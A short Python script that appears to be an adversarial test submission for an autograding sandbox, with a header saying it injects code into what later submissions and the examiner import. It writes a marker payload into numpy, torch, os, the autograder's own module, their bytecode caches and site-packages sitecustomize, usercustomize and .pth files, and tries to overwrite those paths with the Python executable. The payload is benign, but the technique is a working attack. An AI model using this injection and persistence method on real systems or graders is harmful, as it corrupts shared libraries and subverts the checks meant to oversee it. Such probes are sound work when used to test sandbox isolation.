# write: code into what later submissions and the examiner import (numpy, autograder, sitecustomize, .pth, bytecode)
# place: last
import importlib.util
import os
import site
import sys

code = "import os; open('/tmp/attack-was-here', 'w')\n"
paths = [
    importlib.util.find_spec(name).origin for name in ("numpy", "autograder.student.wire", "msgpack", "torch", "os")
]
paths += [importlib.util.cache_from_source(path) for path in paths if path]
for folder in site.getsitepackages():
    paths += [f"{folder}/attack-was-here.pth", f"{folder}/sitecustomize.py", f"{folder}/usercustomize.py"]
for path in paths:
    for mode in ("a", "w", "r+"):
        try:
            with open(path, mode) as file:
                file.write(code)
            print("wrote", path)
        except OSError:
            pass
    try:
        os.replace(sys.executable, path)
        print("replaced", path)
    except OSError:
        pass
